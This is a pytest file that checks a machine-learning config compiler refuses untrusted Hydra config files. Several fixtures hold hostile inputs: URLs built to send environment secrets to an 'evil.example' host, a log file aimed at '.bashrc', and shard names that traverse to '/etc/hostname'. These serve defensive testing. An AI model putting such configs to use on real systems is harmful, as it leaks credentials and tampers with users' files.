"""What an untrusted config cannot do: name code that the user did not opt into, or have any run through Hydra."""

import contextlib
import site
import sys
import sysconfig
from collections.abc import Iterator
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from meshloom.compiler.core.errors import ConfigError, Problem
from meshloom.compiler.core.user_code import check_importable, code_allowed_from, load_class, parse_allowed
from meshloom.compiler.declare.compose import Request, check_config_files, read_spec
from meshloom.compiler.declare.hydra_settings import search_path_override
from meshloom.models import ModelConfig
from meshloom.runtime.data.store import open_shards
from support.commands import run_in_process
from support.wrong_data import write_wrong_data

LEAVES_A_TRACE = "from pathlib import Path\nPath('ran').touch()\n"
MODEL = "from meshloom.models import ModelConfig\nclass Mine(ModelConfig): pass\nclass Other: pass\ndef make(): pass\n"


@pytest.fixture
def folder(tmp_path) -> Iterator[Path]:
    """The working directory: code that leaves a trace once it is imported, and a folder of configs."""
    for name in ("tracing.py", "tracing_package/__init__.py", "tracing_package/conf/__init__.py"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(LEAVES_A_TRACE + MODEL)
    (tmp_path / "conf" / "experiment").mkdir(parents=True)
    with contextlib.chdir(tmp_path):
        yield tmp_path
    for name in [name for name in sys.modules if name.startswith("tracing")]:
        del sys.modules[name]


def problems_of(*overrides: str, text: str | None = None) -> tuple[Problem, ...]:
    """The problems of a request, with this text as an experiment of a folder of configs."""
    if text is not None:
        Path("conf/experiment/theirs.yaml").write_text(f"# @package _global_\n{text}\n")
        overrides = (*search_path_override(overrides, "conf"), "experiment=theirs")
    with pytest.raises(ConfigError) as error:
        read_spec(Request(overrides), then=lambda spec: spec)
    return error.value.problems


@pytest.mark.parametrize("on_path", [False, True], ids=["in the working directory", "on PYTHONPATH"])
def test_a_module_that_nobody_opted_into_is_not_imported(folder, monkeypatch, on_path):
    if on_path:
        monkeypatch.syspath_prepend(folder)
    for name in ("tracing", "tracing_package.conf"):
        with pytest.raises(ConfigError) as error:
            load_class(f"{name}:Mine", "model.family", ModelConfig)
        fix = f"if you trust that code, add --allow-code-from={name.split('.')[0]} to the command line"
        assert error.value.problems[0].fix == fix
    assert not (folder / "ran").exists()


def test_what_the_user_opted_into_is_imported_and_only_classes_of_the_kind_are_taken(folder):
    path = list(sys.path)
    with code_allowed_from(["tracing"]):
        assert issubclass(load_class("tracing:Mine", "model.family", ModelConfig), ModelConfig)
        for name in ("Other", "make", "Path", "ModelConfig"):
            with pytest.raises(ConfigError, match="not a class that derives from ModelConfig"):
                load_class(f"tracing:{name}", "model.family", ModelConfig)
        with pytest.raises(ConfigError, match="--allow-code-from=tracing_package"):
            check_importable("tracing_package", "model.family")
    assert (folder / "ran").exists()
    assert sys.path == path


def test_a_package_of_site_packages_needs_no_option_and_one_that_is_shadowed_does(folder, monkeypatch):
    packages = Path(sysconfig.get_path("purelib", vars={"base": str(folder / "venv")}))
    (packages / "tracing_package").mkdir(parents=True)
    (packages / "tracing_package" / "__init__.py").write_text(MODEL)
    monkeypatch.setattr(site, "PREFIXES", [*site.PREFIXES, str(folder / "venv")])
    monkeypatch.syspath_prepend(packages)
    assert load_class("tracing_package:Mine", "model.family", ModelConfig).__name__ == "Mine"
    del sys.modules["tracing_package"]
    monkeypatch.syspath_prepend(folder)  # in front of it
    with pytest.raises(ConfigError, match="--allow-code-from=tracing_package"):
        check_importable("tracing_package", "model.family")
    assert not (folder / "ran").exists()


def test_a_namespace_package_with_one_part_outside_is_refused(folder, monkeypatch):
    packages = Path(sysconfig.get_path("purelib", vars={"base": str(folder / "venv")}))
    for place in (packages, folder):
        (place / "tracing_space").mkdir(parents=True)
        monkeypatch.syspath_prepend(place)
    monkeypatch.setattr(site, "PREFIXES", [*site.PREFIXES, str(folder / "venv")])
    with pytest.raises(ConfigError, match=r"not from an installed package \(tracing_space\)"):
        check_importable("tracing_space.evil", "model.family")


@pytest.mark.parametrize("name", ["subprocess", "antigravity", "pip.__main__", "os;x", "", ".relative", "sys"])
def test_names_that_are_not_modules_of_a_package_are_refused(folder, name):  # noqa: ARG001
    with pytest.raises(ConfigError):
        check_importable(name, "model.family")
    assert "antigravity" not in sys.modules


def test_the_option_takes_names_of_modules_and_no_places():
    assert parse_allowed(["a,b.c", "a"], "--allow-code-from") == ("a", "b.c")
    with pytest.raises(ConfigError) as error:
        parse_allowed([".", "a,./code.py"], "--allow-code-from")
    assert len(error.value.problems) == 2


CALL = "{_target_: tracing.make}"
FORBIDDEN = {
    "hydra.callbacks.mine._target_": f"hydra: {{callbacks: {{mine: {CALL}}}}}",
    "hydra.launcher._target_": f"hydra: {{launcher: {CALL}}}",
    "hydra.sweeper.params.artifact": "hydra: {sweeper: {params: {artifact: x}}}",
    "hydra.job_logging.handlers.f.filename": "hydra: {job_logging: {handlers: {f: {filename: .bashrc}}}}",
    "hydra.job_logging.formatters.f.()": "hydra: {job_logging: {formatters: {f: {(): tracing.make}}}}",
    "hydra.hydra_logging.filters.f.()": "hydra: {hydra_logging: {filters: {f: {(): ext://tracing.make}}}}",
    "hydra.job.env_set.MESHLOOM_ALLOW_CODE_FROM": "hydra: {job: {env_set: {MESHLOOM_ALLOW_CODE_FROM: tracing}}}",
    "hydra.job.env_copy": "hydra: {job: {env_copy: [PATH]}}",
    "hydra.job.chdir": "hydra: {job: {chdir: true}}",
    "hydra.mode": "hydra: {mode: MULTIRUN}",
    "hydra.output_subdir": "hydra: {output_subdir: ../../.config}",
    "artifact": "artifact: theirs",
    "compilation_cache": "compilation_cache: theirs",
    "distributed.coordinator_address": "distributed: {coordinator_address: 'example.com:1'}",
    "data.source.paths": "data: {source: {paths: ['https://example.com/${oc.env:HOME}']}}",
    "checkpoint.restore_from": "checkpoint: {restore_from: 's3://example/${oc.env:HOME}'}",
    "checkpoint.directory": "checkpoint: {directory: 's3://example/run'}",
    "shards.directory": "shards: {directory: '${run.notes}'}",
    "logging.mlflow.uri": "logging: {mlflow: {uri: 'https://example.com'}}",
    "compiler_options.xla_gpu_cuda_data_dir": "compiler_options: {xla_gpu_cuda_data_dir: theirs}",
    "compiler_options.xla_dump_to": "compiler_options: {xla_dump_to: theirs}",
}


def test_a_config_file_cannot_set_what_runs_or_loads_code_and_hears_of_all_at_once(folder):
    text = OmegaConf.to_yaml(OmegaConf.unsafe_merge(*map(OmegaConf.create, FORBIDDEN.values())))
    problems = problems_of("model.family=tracing:Mine", text=text)
    refused = {problem.where for problem in problems if "a config file sets it" in problem.what}
    # PATH: what env_copy makes of it.
    assert refused == {*FORBIDDEN, "hydra.job.env_set.PATH"}
    assert all(problem.fix.startswith("remove it from the file") for problem in problems)
    assert not (folder / "ran").exists()


@pytest.mark.usefixtures("folder")
def test_an_option_that_is_chosen_on_the_command_line_is_a_config_file_all_the_same():
    texts = {
        "data": "defaults: [text_files, _self_]\nsource: {paths: ['https://evil.example/${oc.env:HOME}']}\n",
        "checkpoint": "defaults: [every_100, _self_]\ndirectory: s3://evil/run\n",
    }
    for group, text in texts.items():
        Path("conf", group).mkdir()
        Path("conf", group, "theirs.yaml").write_text(text)
    problems = problems_of(*search_path_override((), "conf"), "data=theirs", "checkpoint=theirs")
    assert {problem.where for problem in problems} == {"data.source.paths", "checkpoint.directory"}


PIECES = "run: {extra: {a: 'https:', b: /evil.example, all: '${run.extra.a}/${run.extra.b}/${oc.env:TOKEN}'}}"


@pytest.mark.usefixtures("folder")
@pytest.mark.parametrize(
    ("path", "others"),
    [
        ("${run.notes}${oc.env:TOKEN}", ""),
        ("${run.extra.a}/${run.extra.b}/${oc.env:TOKEN}", PIECES),
        ("${oc.env:MINE}.evil.example", ""),
        pytest.param("${run.extra.all}", PIECES, marks=pytest.mark.ci),
        pytest.param("${oc.select:run.extra.all}", PIECES, marks=pytest.mark.ci),
    ],
)
def test_a_url_that_is_put_together_carries_no_secret(path, others, monkeypatch):
    monkeypatch.setenv("TOKEN", "a-secret")
    monkeypatch.setenv("MINE", "https://user:a-secret@mine")
    typed = ("data=text_files", "run.notes='https://evil.example/'")
    (problem,) = problems_of(*typed, text=f"data: {{source: {{paths: ['{path}']}}}}\n{others}")
    assert problem.where == "data.source.paths"
    assert "would carry the value" in problem.what
    assert "a-secret" not in str(problem)


@pytest.mark.usefixtures("folder")
@pytest.mark.parametrize(
    ("chosen", "source"),
    [
        ("mixture", "parts: {a.b: {weight: 1, source: {kind: text_files, paths: ['${run.notes}${oc.env:TOKEN}']}}}"),
        ("python", "arguments: {items: [{url: 'https://evil.example/${oc.env:TOKEN}'}]}"),
    ],
)
def test_a_url_within_another_value_carries_no_secret(chosen, source, monkeypatch):
    monkeypatch.setenv("TOKEN", "a-secret")
    typed = (f"data={chosen}", "run.notes='https://evil.example/'")
    problems = problems_of(*typed, text=f"data: {{source: {{{source}}}}}")
    assert any("would carry the value" in problem.what for problem in problems), problems


@pytest.mark.usefixtures("folder")
def test_a_source_that_is_taken_from_another_key_carries_no_secret():
    source = "{kind: text_files, paths: ['https://evil.example/${oc.env:HOME}']}"
    (problem,) = problems_of(text=f"data: {{source: '${{run.extra.s}}'}}\nrun: {{extra: {{s: {source}}}}}")
    assert (problem.where, "would carry the value" in problem.what) == ("data.source", True)


@pytest.mark.usefixtures("folder")
@pytest.mark.parametrize("group", ["checkpoint", "distributed", "compiler_options"])
def test_a_group_of_keys_that_is_taken_from_another_key_is_refused(group):
    there = "{directory: 's3://evil/x', coordinator_address: 'evil:1', xla_dump_to: evil}"
    problems = problems_of(text=f"{group}: '${{run.extra.theirs}}'\nrun: {{extra: {{theirs: {there}}}}}")
    assert [(problem.where, "a config file sets it" in problem.what) for problem in problems] == [(group, True)]


@pytest.mark.usefixtures("folder")
@pytest.mark.parametrize(
    ("typed", "text", "where"),
    [
        ("hydra.callbacks={}", f"hydra: {{callbacks: {{mine: {CALL}}}}}", "hydra.callbacks.mine._target_"),
        ("compiler_options={xla_a: 1}", "compiler_options: {xla_dump_to: evil}", "compiler_options.xla_dump_to"),
    ],
)
def test_a_typed_mapping_allows_no_other_key_of_a_file(typed, text, where):
    assert where in [problem.where for problem in problems_of(typed, text=text)]


@pytest.mark.usefixtures("folder")
def test_a_config_file_may_name_files_below_a_place_that_the_user_names(monkeypatch):
    monkeypatch.setenv("CORPUS", "https://mine.example/a")
    paths = "['${oc.env:CORPUS}', '${oc.env:CORPUS}/*.txt', '${run.notes}/b.txt']"
    Path("conf/experiment/theirs.yaml").write_text(f"# @package _global_\ndata: {{source: {{paths: {paths}}}}}\n")
    overrides = ("data=text_files", "run.notes='gs://mine'", *search_path_override((), "conf"), "experiment=theirs")
    source = read_spec(Request(overrides), then=lambda spec: spec).data.source
    assert source.model_dump()["paths"] == ("https://mine.example/a", "https://mine.example/a/*.txt", "gs://mine/b.txt")


def test_the_command_line_may_set_them(folder):
    lines = ("checkpoint.directory=s3://mine/run", "logging.mlflow.uri=https://mine", "compilation_cache=mine",
             "artifact=mine", "compiler_options.xla_dump_to=mine",
             "distributed.coordinator_address=localhost:1", "hydra.job_logging.root.level=INFO",
             "hydra.callbacks={}", "hydra.output_subdir=null")  # fmt: skip
    Path("conf/experiment/theirs.yaml").write_text(
        "# @package _global_\nseed: 3\nhydra: {run: {dir: theirs}}\n"
        "logging: {mlflow: {uri: '${oc.env:MLFLOW_TRACKING_URI,null}'}}\nshards: {directory: theirs}\n"
    )
    spec = read_spec(Request((*search_path_override(lines, "conf"), "experiment=theirs")), then=lambda spec: spec)
    assert (spec.seed, spec.artifact, spec.compilation_cache) == (3, "mine", "mine")
    assert not (folder / "ran").exists()


def test_a_search_path_imports_no_package_that_nobody_opted_into(folder):
    place = "hydra.searchpath=[pkg://tracing_package.conf]"
    for overrides in ((place,), (place.replace("pkg", "structured"),)):
        (problem,) = problems_of(*search_path_override(overrides, None))
        assert "--allow-code-from=tracing_package" in problem.fix
    Path("main.yaml").write_text("defaults: [_self_]\nhydra: {searchpath: ['pkg://tracing_package.conf']}\n")
    with pytest.raises(ConfigError, match="--allow-code-from=tracing_package"):
        check_config_files(Request((), "main", str(folder)))
    assert not (folder / "ran").exists()


@pytest.mark.parametrize(
    "flags",
    [
        ("--info", "config"),
        ("-m",),
        *(pytest.param(f, marks=pytest.mark.ci) for f in [("--cfg", "job"), ("--hydra-help",), ()]),
    ],
)
def test_no_way_to_start_calls_what_a_main_config_names(folder, flags):
    logging = "{formatters: {f: {(): tracing.make}}}"
    Path("main.yaml").write_text(f"hydra:\n  callbacks: {{mine: {CALL}}}\n  hydra_logging: {logging}\n")
    line = [*flags, "--config-path", str(folder), "--config-name", "main", "seed=1,2" if "-m" in flags else "seed=1"]
    done = run_in_process("train", *line)
    assert (done.returncode, "hydra.callbacks" in done.stderr) == (2, True)
    assert not (folder / "ran").exists()


@pytest.mark.usefixtures("folder")
@pytest.mark.parametrize("way", ["the line", "the environment"])
def test_the_command_takes_the_option_from_its_line_and_from_the_environment(way, monkeypatch):
    flags = ["--allow-code-from=tracing"] if way == "the line" else []
    monkeypatch.setenv("MESHLOOM_ALLOW_CODE_FROM", "other,tracing" if way == "the environment" else "")
    done = run_in_process("explain", *flags, "model.family=tracing:Mine")
    assert "model.num_layers: there is no such key" in done.stderr  # of a class without any


@pytest.mark.parametrize("name", ["../theirs.tokens", "/etc/hostname", "a/b"])
def test_an_index_of_shards_names_no_file_outside_of_its_folder(folder, name):
    (folder / "data").mkdir()
    write_wrong_data(folder / "data")
    index = folder / "data/good/index.json"
    index.write_text(index.read_text().replace("00000.tokens", name))
    with pytest.raises(ConfigError, match="is damaged"):
        open_shards(str(index.parent), "data.source.directory")
